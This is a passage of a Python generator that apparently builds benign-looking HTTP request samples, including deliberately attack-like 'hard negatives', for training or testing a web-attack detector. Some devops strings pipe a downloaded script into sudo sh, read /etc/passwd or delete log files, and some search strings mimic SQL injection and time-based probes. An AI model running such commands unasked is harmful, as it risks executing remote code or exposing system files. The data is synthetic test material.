                    % (rng.randint(2, 12), (y := rng.randint(1, 8)), rng.randint(2, 12), y + 1),
                    "<<Insert Client Name>> & <<Counterparty>>",
                    "Term: [__] months (min. %d)" % rng.randint(6, 36),
                ]
            ),
            param="note",
            path="/api/dms/metadata",
        )

    def hard_key():
        return B(
            "query_key",
            rng.choice(["sec[12.1]", "clauses[]", "filter[jurisdiction]"]),
            kval=rng.choice(["1", "NY", "on"]),
            path="/api/contracts",
        )

    return [clause, search, signer, xmlv, upload, pathc, header_matter, cookie_ws, defn_key, clause, search], [
        hard_clause,
        hard_search,
        hard_xml,
        hard_key,
        hard_clause,
    ]


# ---------------------------------------------------------------- science
def k_science():
    def notes():
        t = [
            "Buffer: 50 mM Tris-HCl pH 7.4, 150 mM NaCl, 1 mM EDTA",
            "Incubated 2 h at 37 C, 5% CO2; medium changed at 24 h",
            "Centrifuged at 4,000 x g for 10 min at 4 C",
            "Yield 82% after recrystallisation from ethanol/water (3:1)",
            "OD600 reached 0.6 after 3.5 h; induced with 0.5 mM IPTG",
        ]
        return B(
            "json",
            rng.choice(t),
            param="protocol_notes",
            extra={"experiment": "EXP-%04d" % rng.randint(1, 9999)},
            path="/api/eln/entries",
            method="POST",
        )

    def stats():
        t = [
            "p = 0.032 (two-tailed t-test, n = 24)",
            "r = 0.71, p = 0.004",
            "OR 1.8 (95% CI 1.2-2.7)",
            "F(2, 57) = 4.31, p = 0.018",
        ]
        return B("form", rng.choice(t), param="result_summary", path="/studies/results")

    def genes():
        return B(
            "query",
            rng.choice(["BRCA1", "TP53", "EGFR exon 19 deletion", "KRAS G12C", "CFTR F508del", "APOE e4"]),
            param="gene",
            path="/api/variants/search",
        )

    def chem():
        return B(
            "json",
            rng.choice(
                [
                    "2-(4-isobutylphenyl)propanoic acid",
                    "N-acetyl-p-aminophenol",
                    "sodium dodecyl sulfate",
                    "1,3,7-trimethylxanthine",
                ]
            ),
            param="iupac_name",
            path="/api/compounds",
            method="POST",
        )

    def units():
        return B(
            "xml",
            rng.choice(["9.81 m/s^2", "6.022e23 mol^-1", "1.38e-23 J/K", "298.15 K"]),
            param="value",
            path="/api/constants",
        )

    def csv():
        rows = (
            "sample,od600,temp_c\n"
            + "\n".join("S%02d,%.3f,%.1f" % (i, rng.uniform(0.1, 1.2), rng.uniform(30, 38)) for i in range(1, 6))
            + "\n"
        )
        return B(
            "multipart",
            rows,
            mp="file",
            filename="growth_curve_%d.csv" % rng.randint(1, 99),
            fct="text/csv",
            fieldname="data",
            path="/api/datasets/upload",
        )

    def pathg():
        return B("path", rng.choice(["BRCA2", "MTHFR", "HBB", "DMD", "SOD1"]), path="/api/genes/{P}/transcripts")

    def header_ds():
        return B("header", "ds-%s" % tok(10), hname="X-Dataset-Id", path="/api/datasets/preview")

    def cookie_units():
        return B("cookie", rng.choice(["SI", "imperial", "cgs"]), cname="unit_system", path="/calculator")

    def hard_latex():
        v, i, n = rng.choice(["x", "y", "z", "a"]), rng.choice(["i", "j", "k"]), rng.choice(["n", "N", "m"])
        t = [
            "\\frac{%s}{%s} + \\sqrt{%s}" % (v, rng.choice("bcd"), rng.choice("efg")),
            "$\\sum_{%s=1}^{%s} %s_%s^2$" % (i, n, v, i),
            "${%s \\choose k} p^k (1-p)^{%s-k}$" % (n, n),
            "\\mathbb{E}[%s] = \\int_{-\\infty}^{\\infty} %s f(%s)\\,d%s" % (v.upper(), v, v, v),
            "$k_{cat}/K_M = %.1f \\times 10^{%d}\\ M^{-1}s^{-1}$" % (rng.uniform(1, 9), rng.randint(3, 8)),
            "\\{%s \\in \\mathbb{R} \\mid %s > 0\\}" % (v, v),
            "$\\alpha < 0.0%d$ \\& $\\beta = 0.%d$" % (rng.randint(1, 5), rng.randint(1, 3)),
            "\\begin{pmatrix} 1 & %d \\\\ 0 & 1 \\end{pmatrix}" % rng.randint(2, 9),
            "$\\hat{\\beta} = (X^T X)^{-1} X^T y$",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="latex", path="/api/notebook/cells", method="PUT"),
                B("form", rng.choice(t), param="equation", path="/render/math"),
                B("query", rng.choice(t), param="tex", path="/api/math/preview"),
                B("multipart", rng.choice(t), param="abstract_math", path="/api/manuscripts"),
            ]
        )

    def hard_smiles():
        t = [
            "C[C@@H](O)C(=O)O",
            "CC(=O)OC1=CC=CC=C1C(=O)O",
            "CN1C=NC2=C1C(=O)N(C(=O)N2C)C",
            "[Na+].[Cl-]",
            "C#N",
            "O=C(O)[C@H](N)Cc1ccccc1",
        ]
        return rng.choice(
            [
                B("query", rng.choice(t), param="smiles", path="/api/compounds/similar"),
                B("json", rng.choice(t), param="smiles", path="/api/compounds", method="POST"),
            ]
        )

    def hard_stats():
        t = [
            "p < 0.00%d; 95%% CI [%.1f, %.1f]" % (rng.randint(1, 5), rng.uniform(1, 2), rng.uniform(2.5, 4)),
            "H2O2 -> 2 H2O + O2 (catalase, pH %.1f)" % rng.uniform(6.5, 7.8),
            "[Ca2+]i rose from %d nM to >1 uM" % rng.randint(80, 150),
            "log2(FC) > %d & padj < 0.0%d" % (rng.randint(1, 2), rng.randint(1, 5)),
            "n = %d; mean +/- SD = %.2f +/- %.2f" % (rng.randint(8, 60), rng.uniform(1, 5), rng.uniform(0.1, 1)),
        ]
        return rng.choice(
            [
                B("xml", rng.choice(t), param="finding", path="/api/eln/findings"),
                B("json", rng.choice(t), param="finding", deep=10, path="/api/eln/entries", method="POST"),
            ]
        )

    def hard_key():
        return B(
            "json_key",
            rng.choice(["[Ca2+]_mM", "k_cat/K_M", "delta_G (kJ/mol)", "p<0.05"]),
            kval=rng.choice([1.2, 0.03, -30.5, True]),
            path="/api/measurements",
            method="POST",
        )

    return [notes, stats, genes, chem, units, csv, pathg, header_ds, cookie_units, notes, stats, genes], [
        hard_latex,
        hard_smiles,
        hard_stats,
        hard_key,
        hard_latex,
    ]


# ---------------------------------------------------------------- devops
def k_devops():
    def runbook():
        t = [
            "kubectl rollout restart deployment/api -n prod",
            "kubectl get pods -n payments --field-selector=status.phase!=Running",
            "systemctl status nginx",
            "docker compose logs -f --tail=200 worker",
            "helm rollback web 42 -n staging",
            "aws s3 sync ./dist s3://static-site-bucket --delete",
        ]
        return B(
            "json",
            rng.choice(t),
            param="command",
            extra={"step": rng.randint(1, 9), "title": "Restart stuck workers"},
            path="/api/runbooks/steps",
            method="POST",
        )

    def dockerfile():
        df = 'FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nCMD ["gunicorn", "-b", "0.0.0.0:8000", "app:app"]\n'
        return B(
            "multipart",
            df,
            mp="file",
            filename="Dockerfile",
            fct="text/plain",
            fieldname="dockerfile",
            path="/api/builds",
        )

    def k8s():
        y = (
            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: %d\n  template:\n    spec:\n      containers:\n        - name: web\n          image: registry.example.com/web:%s\n          ports:\n            - containerPort: 8080\n"
            % (rng.randint(2, 6), "1.%d.%d" % (rng.randint(0, 9), rng.randint(0, 20)))
        )
        return B("json", y, param="manifest", path="/api/deployments/validate", method="POST")

    def tf():
        t = (
            'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-logs-%s"\n  tags = {\n    Team = "platform"\n  }\n}\n'
            % tok(5)
        )
        return B("form", t, param="snippet", path="/review/terraform")

    def query_env():
        return B(
            "query",
            rng.choice(["prod-eu-west-1", "staging", "dev-us-east-2", "canary"]),
            param="environment",
            path="/api/deploys",
        )

    def header_ci():
        return B(
            "header",
            str(rng.randint(1000000, 9999999)),
            hname="X-GitHub-Delivery" if rng.random() < 0.5 else "X-Build-Number",
            path="/api/ci/hooks",
        )

    def xml_pom():
        return B(
            "xml", rng.choice(["3.2.5", "17", "2.17.1", "5.10.2"]), param="version", path="/api/artifacts/register"
        )

    def path_job():
        return B(
            "path",
            "deploy-%s-%d" % (rng.choice(["api", "web", "worker"]), rng.randint(100, 999)),
            path="/api/pipelines/jobs/{P}/retry",
            method="POST",
        )

    def cookie_cluster():
        return B(
            "cookie", rng.choice(["eks-prod-1", "gke-staging", "aks-dev"]), cname="selected_cluster", path="/console"
        )

    def hard_snippets():
        svc = rng.choice(["nginx", "postgresql", "redis-server", "docker", "kubelet", "api-gateway"])
        app = rng.choice(["app", "billing", "worker", "nginx"])
        t = [
            "RUN apt-get update && apt-get install -y %s && rm -rf /var/lib/apt/lists/*"
            % rng.choice(["curl", "ca-certificates", "git jq", "libpq-dev"]),
            'journalctl -u %s --since "%d hour ago" | grep -i error' % (svc, rng.randint(1, 6)),
            'find /var/log/%s -name "*.gz" -mtime +%d -delete' % (app, rng.choice([7, 14, 30, 90])),
            "export PATH=$PATH:/usr/local/go/bin && go version",
            "kubectl get pods -n %s -o jsonpath='{.items[*].metadata.name}'"
            % rng.choice(["prod", "staging", "payments"]),
            "helm upgrade --install %s ./chart --set image.tag=$(git rev-parse --short HEAD)"
            % rng.choice(["web", "api", "worker"]),
            'for f in /var/log/%s/*.log; do gzip "$f"; done' % app,
            "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
            "df -h / && du -sh /var/lib/%s/* | sort -h | tail -%d"
            % (rng.choice(["docker", "containerd", "postgresql"]), rng.randint(3, 10)),
            "cut -d: -f1 /etc/passwd | sort  # list local accounts for the %s audit"
            % rng.choice(["Q4", "SOC2", "yearly"]),
            "systemctl restart %s && systemctl status %s --no-pager" % (svc, svc),
            "pg_dump -Fc -d orders > /backups/orders_$(date +%F).dump",
        ]
        return rng.choice(
            [
                B("json", rng.choice(t), param="command", path="/api/runbooks/steps", method="POST"),
                B("form", rng.choice(t), param="runbook_step", path="/wiki/runbooks/edit"),
                B("multipart", rng.choice(t), param="notes", path="/api/incidents/timeline"),
                B(
                    "json",
                    rng.choice(t),
                    param="remediation",
                    prefix=True,
                    path="/api/incidents/postmortem",
                    method="PUT",
                ),
            ]
        )

    def hard_gha():
        br = rng.choice(["main", "release/*", "develop"])
        sec = rng.choice(["DEPLOY_TOKEN", "NPM_TOKEN", "AWS_ROLE_ARN", "REGISTRY_PASSWORD"])
        y = (
            "name: %s\non:\n  push:\n    branches: [%s]\njobs:\n  %s:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/%s.sh\n        env:\n          TOKEN: ${{ secrets.%s }}\n          SHA: ${{ github.sha }}\n"
            % (
                rng.choice(["deploy", "release", "publish"]),
                br,
                rng.choice(["deploy", "build", "publish"]),
                rng.choice(["deploy", "release", "publish"]),
                sec,
            )
        )
        return rng.choice(
            [
                B(
                    "multipart",
                    y,
                    mp="file",
                    filename=".github/workflows/%s.yml" % rng.choice(["deploy", "ci", "release"]),
                    fct="application/x-yaml",
                    fieldname="workflow",
                    path="/api/ci/lint",
                ),
                B("json", y, param="workflow", path="/api/ci/lint", method="POST"),
            ]
        )

    def hard_tf():
        t = [
            'name = "${var.project}-${var.env}-%s"' % rng.choice(["bucket", "queue", "db", "cache"]),
            'region = "${var.region}"',
            "subnet_ids = [for s in aws_subnet.%s : s.id]" % rng.choice(["private", "public", "db"]),
            'tags = merge(local.common_tags, { Name = "${var.env}-%s" })' % rng.choice(["nat", "alb", "bastion"]),
            "count = var.enable_%s ? 1 : 0" % rng.choice(["cdn", "waf", "backups"]),
        ]
        return rng.choice(
            [
                B("form", rng.choice(t), param="snippet", path="/review/terraform"),
                B("xml", rng.choice(t), param="expression", path="/api/iac/lint"),
            ]
        )

    def hard_env_key():
        return B(
            "json_key",
            rng.choice(["JAVA_OPTS", "NODE_OPTIONS", "LD_LIBRARY_PATH", "SPRING_PROFILES_ACTIVE"]),
            kval=rng.choice(
                ["-Xmx512m -XX:+UseG1GC", "--max-old-space-size=2048", "/opt/oracle/instantclient_21", "prod,metrics"]
            ),
            path="/api/apps/web/env",
            method="PATCH",
        )

    return [runbook, dockerfile, k8s, tf, query_env, header_ci, xml_pom, path_job, cookie_cluster, runbook, k8s], [
        hard_snippets,
        hard_gha,
        hard_tf,
        hard_env_key,
        hard_snippets,
    ]


# ================================================================ benign part B
def k_code_review():
    repos = ["acme/payments-api", "acme/web-frontend", "labnotes/eln-core", "buildgrid/runner", "fotofolio/mobile"]

    def comment():
        fn = rng.choice(
            [
                "orders.py",
                "invoices.py",
                "cart.ts",
                "handlers.go",
                "models.py",
                "useAuth.ts",
                "billing_service.rb",
                "Checkout.vue",
            ]
        )
        ident = rng.choice(
            ["retryCount", "parse_amount", "fetchUser", "buildQuery", "toCents", "normalize_email", "isExpired"]
        )
        t = [
            "nit: prefer `const` over `let` for `%s` since it's never reassigned." % ident,
            "Can we extract `%s` into a helper? It's duplicated in `%s`." % (ident, fn),
            "LGTM once CI is green. Thanks for adding tests for `%s`!" % ident,
            "Could you add a short docstring to `%s` explaining the retry behaviour?" % ident,
            "`%s` runs on every render; maybe memoize it with `useMemo`." % ident,
            "Small typo in the log message in `%s`: 'recieved' -> 'received'." % fn,
            "Should `%s` handle the empty-list case? Line %d will raise otherwise." % (ident, rng.randint(10, 400)),
            "Rename `%s` to something more specific? There's already one in `%s`." % (ident, fn),
        ]
        r = rng.choice(repos)
        return B(
            "json",
            rng.choice(t),
            param="body",
            extra={"path": "src/" + fn, "line": rng.randint(5, 400)},
            path="/api/repos/%s/pulls/%d/comments" % (r, rng.randint(10, 999)),
            method="POST",
        )

    def diff():
        n = rng.randint(10, 400)
        hunks = [
            "@@ -%d,6 +%d,8 @@ def load_config(path):\n     with open(path) as fh:\n-        data = yaml.load(fh)\n+        data = yaml.safe_load(fh)\n+    if data is None:\n+        data = {}\n     return data\n"
            % (n, n),
            "@@ -%d,7 +%d,7 @@ export function formatPrice(cents, currency) {\n-  return (cents / 100).toFixed(2) + ' ' + currency;\n+  return new Intl.NumberFormat(undefined, { style: 'currency', currency }).format(cents / 100);\n }\n"
            % (n, n),
            "@@ -%d,5 +%d,6 @@ func (s *Server) Shutdown(ctx context.Context) error {\n \ts.mu.Lock()\n \tdefer s.mu.Unlock()\n+\ts.closing = true\n \treturn s.http.Shutdown(ctx)\n }\n"
            % (n, n),
            "@@ -%d,4 +%d,4 @@ class Invoice < ApplicationRecord\n-  validates :number, presence: true\n+  validates :number, presence: true, uniqueness: { scope: :account_id }\n   belongs_to :account\n"
            % (n, n),
            "@@ -%d,6 +%d,6 @@\n-  timeout: 30s\n+  timeout: %ds\n   retries: 3\n   backoff: exponential\n"
            % (n, n, rng.choice([45, 60, 90])),
        ]
        name = rng.choice(
            [
                "fix-config",
                "price-format",
                "graceful-shutdown",
                "invoice-uniqueness",
                "bump-timeout",
                "review-%d" % rng.randint(100, 999),
            ]
        )
        return B(
            "multipart",
            rng.choice(hunks),
            mp="file",
            filename=name + ".patch",
            fct="text/x-diff",
            fieldname="patch",
            path="/api/patches",
        )

    def approve():
        return B(
            "form",
            rng.choice(
                [
                    "Approved. Ship it :shipit:",
                    "Approving with minor comments.",
                    "Looks good to me, merging after the release cut.",
                    "Approved -- nice cleanup of the %s module." % rng.choice(["billing", "auth", "search", "export"]),
                    "Approving; follow-up ticket for the flaky test is %s-%d."
                    % (rng.choice(["WEB", "API", "OPS"]), rng.randint(100, 9999)),
                ]
            ),
            param="review[body]",
            extra_form=[("review[event]", "APPROVE")],
            path="/reviews/submit",
        )

    def query_file():
        return B(
            "query",
            rng.choice(["src/app/main.go", "web/components/Cart.tsx", "lib/utils/date.py", "docs/README.md"]),
            param="file",
            q=[("line", str(rng.randint(1, 300)))],
            path="/api/blame",
        )

    def path_pr():
        return B("path", str(rng.randint(100, 9999)), path="/api/repos/%s/pulls/{P}/reviews" % rng.choice(repos))

    def header_ev():
        return B(
            "header",
            rng.choice(["pull_request_review", "pull_request", "push", "check_suite"]),
            hname="X-GitHub-Event",
            method="POST",
            path="/api/webhooks/github",
        )

    def xml_ck():
        return B(
            "xml",
            rng.choice(["Unused import 'os'", "Line is longer than 120 characters", "Method has 6 parameters (max 5)"]),
            param="message",
            path="/api/checkstyle/report",
        )

    def cookie_view():
        return B("cookie", rng.choice(["split", "unified"]), cname="diff_view", path="/pulls")

    def hard_sql():
        t_ = rng.choice(["users", "orders", "invoices", "sessions", "payments", "shipments"])
        c_ = rng.choice(["email", "customer_id", "status", "external_ref", "created_at"])
        t = [
            'Use a parameterized query here: `cursor.execute("SELECT id FROM %s WHERE %s = %%s", (%s,))` instead of string formatting.'
            % (t_, c_, c_),
            "Why `SELECT *`? Please list the columns, `%s` has a big JSON blob." % t_,
            "The migration drops the column -- `ALTER TABLE %s DROP COLUMN %s_legacy;` -- can we do that in a follow-up release?"
            % (t_, c_),
            "```sql\nCREATE INDEX CONCURRENTLY idx_%s_%s ON %s (%s);\n```\nThis avoids locking the table."
            % (t_, c_, t_, c_),
            "`DELETE FROM %s WHERE created_at < now() - interval '90 days'` should run in batches of 1000." % t_,
            "With `UNION ALL` instead of `UNION` we skip the sort; duplicates can't happen across `%s` partitions anyway."
            % t_,
        ]
        return rng.choice(
            [
                B(
                    "json",
                    rng.choice(t),
                    param="body",
                    path="/api/repos/acme/payments-api/pulls/%d/comments" % rng.randint(10, 999),
                    method="POST",
                ),
                B("form", rng.choice(t), param="comment", path="/reviews/inline"),
            ]
        )

    def hard_jsx():
        comp = rng.choice(["Card", "CartItem", "Avatar", "OrderRow", "Toolbar"])
        t = [
            "```jsx\n<div className={styles.%s} onClick={handle%sClick}>\n  {item.title}\n</div>\n```\nMaybe use a `<button>` for accessibility?"
            % (comp.lower(), comp),
            "Inline handlers like `onError={() => set%sBroken(true)}` are fine here." % comp,
            "In the template, `{{ %s.display_name }}` is auto-escaped, so we don't need `|e`." % comp.lower(),
            "Please avoid `eval()` in `%s_config.py`; `ast.literal_eval` is enough for this string." % comp.lower(),
            "`os.path.join(base, name)` doesn't stop `..` segments in `%s`; use `safe_join` from werkzeug." % comp,
            "`dangerouslySetInnerHTML` in `%s.tsx` -- is the markdown sanitized upstream?" % comp,
        ]
        return rng.choice(
            [
                B(
                    "json",
                    rng.choice(t),
                    param="body",
                    path="/api/repos/acme/web-frontend/pulls/%d/comments" % rng.randint(10, 999),
                    method="POST",
                ),
                B("multipart", rng.choice(t), param="comment", path="/api/reviews/attachments"),
                B("json", rng.choice(t), param="suggestion", deep=10, path="/api/review-bot/findings", method="POST"),
            ]
        )

    def hard_shell():
        t = '```bash\nset -euo pipefail\nfor f in $(git diff --name-only origin/main...HEAD); do\n  [[ $f == *.py ]] && ruff check "$f"\ndone\n```'
        return rng.choice(
            [
                B(
                    "json",
                    t,
                    param="body",
                    path="/api/repos/buildgrid/runner/issues/%d/comments" % rng.randint(1, 500),
                    method="POST",
                ),
                B(
                    "xml",
                    "if [ -z \"$CI\" ]; then echo 'local run'; fi",
                    param="snippet",
                    path="/api/checkstyle/report",
                ),
            ]
        )

    def hard_query():
        return B(
            "query",
            rng.choice(
                ["is:pr is:open review-requested:@me", 'repo:acme/web-frontend "TODO(security)"', "path:*.sql DROP"]
            ),
            param="q",
            path="/api/search/issues",
        )

    return [comment, diff, approve, query_file, path_pr, header_ev, xml_ck, cookie_view, comment, diff, approve], [
        hard_sql,
        hard_jsx,
        hard_shell,
        hard_query,
        hard_jsx,
    ]


def k_search():
    def basic():
        return B(
            "query",
            rng.choice(
                [
                    "winter boots",
                    "best pizza near me",
                    "python list comprehension",
                    "how to repot a monstera",
                    "cheap flights lisbon march",
                    "vegan lasagna recipe",
                    "bike repair shop open sunday",
                    "used kayak",
                    "standing desk review",
                ]
            ),
            param="q",
            q=[("page", str(rng.randint(1, 4)))],
            path=rng.choice(["/search", "/api/search", "/api/v2/search"]),
        )

    def form():
        return B(
            "form",
            rng.choice(
                [
                    "noise cancelling headphones",
                    "apartment 2 bedroom balcony",
                    "jazz concerts december",
                    "history of the silk road",
                ]
            ),
            param="query",
            path="/search",
        )

    def json_s():
        return B(
            "json",
            rng.choice(["annual report 2025", "onboarding checklist", "vacation policy", "expense form"]),
            param="query",
            extra={"filters": {"type": rng.choice(["doc", "sheet", "pdf"])}, "limit": 20},
            path="/api/workspace/search",
            method="POST",
        )

    def path_s():
        return B(
            "path", rng.choice(["red shoes", "garden-hose", "coffee grinder", "led strip lights"]), path="/search/{P}"
        )

    def cookie_s():
        return B(
            "cookie",
            rng.choice(["tents|sleeping bags|headlamp", "laptop stand|usb hub", "yoga mat"]),
            cname="recent_searches",
            path="/",
        )

    def header_s():
        return B("header", "srch-%s" % tok(12), hname="X-Search-Session", path="/api/search")

    def mp_s():
        return B(
            "multipart",
            rng.choice(["similar to this lamp", "find this plant", "what bird is this"]),
            param="hint",
            extra_parts=[("mode", "visual")],
            path="/api/search/by-image",
        )

    def xml_s():
        return B(
            "xml",
            rng.choice(["renewable energy policy", "supply chain risk", "quarterly earnings"]),
            param="terms",
            path="/api/search",
        )

    def hard_bool():
        t = [
            '"machine learning" AND (python OR rust) -java',
            'title:"foo bar" author:smith*',
            "price:[10 TO 50]",
            "C++ vs C# performance",
            'what\'s 1/2" vs 3/4" pipe',
            'site:example.com "annual report" filetype:pdf',
            "union station parking",
            "select comfort mattress",
            "drop-down menu css",
            "script font generator",
            "<title> tag seo tips",
            "NOT spam AND from:billing@*",
            '"where" vs "were" grammar',
            "sleep(5) in python",
            "or 1 = 1 math puzzle",
            'author:"Le Guin" AND year:[1968 TO 1974]',
            '"rock & roll" -karaoke',
            "laptop 16GB|32GB ram",
            "exec summary template (1 page)",
            "#hashtag OR @mention analytics",
            "cat /etc/hosts meaning",
            "%s NEAR/3 %s" % (rng.choice(["solar", "wind", "grid"]), rng.choice(["storage", "subsidy", "tariff"])),
        ]
        return rng.choice(
            [
                B("query", rng.choice(t), param="q", path="/search"),
                B("json", rng.choice(t), param="query", path="/api/search", method="POST"),
                B("form", rng.choice(t), param="q", path="/search"),
            ]
        )

    def hard_key():
        return B(
            "query_key",
            rng.choice(["filter[tags][]", "facets[brand]", "range[price][gte]", "q[title_cont]"]),
            kval=rng.choice(["outdoor", "acme", "20", "lamp"]),
            path="/api/search",
        )

    def hard_wild():
        return B(
            "query",
            rng.choice(["te?t*", "colou?r", "*.pdf", "inv-2026-*", "name:jo*n"]),
            param="q",
            path="/api/files/search",
        )

    return [basic, form, json_s, path_s, cookie_s, header_s, mp_s, xml_s, basic, json_s], [
        hard_bool,
        hard_key,
        hard_wild,
        hard_bool,
    ]


def k_graphql():
    types = [
        (
            "product",
            "Product",
            [
                "id",
                "name",
                "slug",
                "price { amount currency }",
                "images(first: 4) { url alt }",
                "inventory { available }",
                "rating",
            ],
        ),
        (
            "order",
            "Order",
            [
                "id",
                "number",
                "status",
                "total { amount currency }",
                "lineItems(first: 20) { nodes { sku quantity } }",
                "placedAt",
            ],
        ),
        ("user", "User", ["id", "login", "name", "avatarUrl", "createdAt", "followers { totalCount }"]),
        ("trail", "Trail", ["id", "name", "lengthKm", "elevationGainM", "difficulty", "region { name }"]),
        ("article", "Article", ["id", "title", "publishedAt", "author { name }", "tags", "readingTimeMin"]),
    ]

    def sel(fields):
        k = rng.randint(3, len(fields))
        return " ".join(rng.sample(fields, k))

    def q_simple():
        f, T, fields = rng.choice(types)
        op = "Get" + T + rng.choice(["", "Details", "Card", "Summary"])
        q = "query %s($id: ID!) {\n  %s(id: $id) {\n    %s\n  }\n}" % (
            op,
            f,
            sel(fields).replace(" ", "\n    ") if rng.random() < 0.5 else sel(fields),
        )
        return B(
            "json",
            q,
            path=rng.choice(["/graphql", "/api/graphql"]),
            jbody={"operationName": op, "query": TOKEN, "variables": {"id": "%s_%s" % (f[:4], tok(8))}},
            method="POST",
        )

    def mutation():
        m = rng.choice(
            [
                (
                    "addToCart",
                    "AddToCartInput",
                    "cart { id totalQuantity }",
                    {"productId": "prod_%s" % tok(8), "quantity": rng.randint(1, 3)},
                ),
                (
                    "updateProfile",
                    "UpdateProfileInput",
                    "user { id name }",
                    {"name": "%s %s" % person(), "timezone": rng.choice(["Europe/Paris", "UTC"])},
                ),
                (
                    "createComment",
                    "CreateCommentInput",
                    "comment { id createdAt }",
                    {
                        "postId": "post_%s" % tok(6),
                        "body": rng.choice(["Nice write-up!", "Thanks, this helped.", "Typo in step 3?"]),
                    },
                ),
                (
                    "cancelOrder",
                    "CancelOrderInput",
                    "order { id status }",
                    {"orderId": "ord_%s" % tok(10), "reason": rng.choice(["ORDERED_BY_MISTAKE", "FOUND_CHEAPER"])},
                ),
                (
                    "subscribeNewsletter",
                    "SubscribeInput",
                    "subscription { id }",
                    {"email": email_for(*person()), "topics": ["product", "events"]},
                ),
            ]
        )
        q = "mutation %s($input: %s!) {\n  %s(input: $input) {\n    %s\n    userErrors { field message }\n  }\n}" % (
            m[0][0].upper() + m[0][1:],
            m[1],
            m[0],
            m[2],
        )
        return B("json", q, path="/graphql", jbody={"query": TOKEN, "variables": {"input": m[3]}}, method="POST")

    def fragment():
        f, T, fields = rng.choice(types)
        fr = "%sBits" % T
        q = (
            "fragment %s on %s { %s }\nquery List%ss($first: Int = %d) {\n  %ss(first: $first) { nodes { ...%s } pageInfo { hasNextPage endCursor } }\n}"
            % (fr, T, sel(fields), T, rng.choice([10, 20, 50]), f, fr)
        )
        return B("json", q, path="/graphql", jbody={"query": TOKEN}, method="POST")

    def get_q():
        q = '{ trails(region: "%s", first: %d) { edges { node { id name lengthKm } } } }' % (
            rng.choice(["alps", "cascades", "dolomites", "snowdonia", "pyrenees", "tatras"]),
            rng.choice([10, 20, 30]),
        )
        return B("query", q, param="query", path="/graphql")

    def aliases():
        key = rng.choice(["checkout.title", "cart.empty", "nav.account", "footer.legal", "orders.status.shipped"])
        langs = rng.sample(["EN", "DE", "FR", "ES", "JA", "PT"], 2)
        q = 'query { %s: translation(key: "%s", lang: %s) { text } %s: translation(key: "%s", lang: %s) { text } }' % (
            langs[0].lower(),
            key,
            langs[0],
            langs[1].lower(),
            key,
            langs[1],
        )
        return B("json", q, path="/graphql", jbody={"query": TOKEN}, method="POST")

    def upload_ops():
        m = rng.choice(["uploadAvatar", "attachReceipt", "importContacts"])
        ops = '{"query":"mutation ($file: Upload!) { %s(file: $file) { id url } }","variables":{"file":null}}' % m
        return B(
            "multipart",
            ops,
            param="operations",
            first=True,
            fill=False,
            shuffle=False,
            extra_parts=[("map", '{"0":["variables.file"]}')],
            tail_parts=[
                ("0", rng.choice(["avatar.png", "receipt.jpg", "contacts.csv"]), "application/octet-stream", "(binary)")
            ],
            path="/graphql",
        )

    def header_op():
        return B(
            "header",
            rng.choice(["GetProduct", "Viewer", "TrailSearch", "CartSummary", "ListOrders", "UpdateProfile"])
            + rng.choice(["", "Query", "V2"]),
            hname=rng.choice(["X-Apollo-Operation-Name", "apollographql-client-name"]),
            method="POST",
            path="/graphql",
        )

    def var_key():
        return B(
            "json_key",
            rng.choice(["first", "after", "orderBy", "withOwner", "last", "before", "filter", "locale"]),
            kval=rng.choice([10, "Y3Vyc29yOjEw", "NAME_ASC", True]),
            path="/graphql",
            jbody={
                "query": "query Q($first: Int, $after: String) { items(first: $first, after: $after) { id } }",
                "variables": {TOKEN: rng.randint(5, 50)},
            },
            method="POST",
        )

    def hard_filters():
        word = rng.choice(["shirt", "hoodie", "boot", "lamp", "mug", "tent"])
        brand = rng.choice(["O'Neill", "Levi's", "Arc'teryx", "Dr. Martens", "Acme & Co."])
        q = (
            'query Search {\n  products(where: {name: {_ilike: "%%%s%%"}, price: {_lte: %d}, _or: [{brand: {_eq: "%s"}}, {brand: {_eq: "Acme"}}]}, order_by: {price: asc}) {\n    id\n    name\n  }\n}'
            % (word, rng.randint(20, 200), brand.replace('"', ""))
        )
        return B("json", q, path="/v1/graphql", jbody={"query": TOKEN}, method="POST")

    def hard_directives():
        repo = rng.choice(["web-frontend", "payments-api", "eln-core", "runner", "mobile"])
        labels = rng.sample(["bug", "p1", "regression", "ux", "security", "good first issue"], 2)
        q = (
            '# fetch the first page, owner only when expanded\nquery Repo($name: String!, $withOwner: Boolean = false, $skipStats: Boolean = %s) {\n  repository(name: $name) {\n    __typename\n    id\n    owner @include(if: $withOwner) { login }\n    issues(states: [OPEN], labels: ["%s", "%s"]) @skip(if: $skipStats) { totalCount }\n  }\n}'
            % (rng.choice(["true", "false"]), labels[0], labels[1])
        )
        return B(
            "json",
            q,
            path="/graphql",
            jbody={"query": TOKEN, "variables": {"name": repo, "withOwner": rng.choice([True, False])}},
            method="POST",
        )

    def hard_schema():
        q = rng.choice(
            [
                "query { __schema { queryType { name } types { name kind } } }",
                'query { __type(name: "%s") { name fields { name type { name kind } } } }'
                % rng.choice(["Product", "Order", "User", "Trail", "Invoice", "Ticket"]),
                "query IntrospectionQuery { __schema { mutationType { name } directives { name locations } } }",
            ]
        )
        return rng.choice(
            [
                B("json", q, path="/graphql", jbody={"query": TOKEN}, method="POST"),
                B("query", q, param="query", path="/graphql"),
            ]
        )

    def hard_var_json():
        v = {
            "filter": {
                "status": {"in": rng.sample(["OPEN", "PENDING", "SOLVED", "ON_HOLD"], 2)},
                "createdAt": {"gte": "2026-%02d-01T00:00:00Z" % rng.randint(1, 11)},
                "title": {
                    "contains": rng.choice(
                        ["can't login", '"reset" link expired', "2FA code <not> arriving", "refund & cancel"]
                    )
                },
            }
        }
        return B(
            "json",
            v,
            path="/graphql",
            jbody={
                "query": "query Tickets($filter: TicketFilter) { tickets(filter: $filter) { id title } }",
                "variables": TOKEN,
            },
            method="POST",
        )

    def hard_batch():
        ops = [
            {"query": "query { me { id } }"},
            {"query": "query { notifications(first: %d, unreadOnly: true) { id } }" % rng.randint(5, 20)},
        ]
        return B("json", ops[1]["query"], path="/graphql", jraw=compact(ops), method="POST")

    return [q_simple, mutation, fragment, get_q, aliases, upload_ops, header_op, var_key, q_simple, mutation], [
        hard_filters,
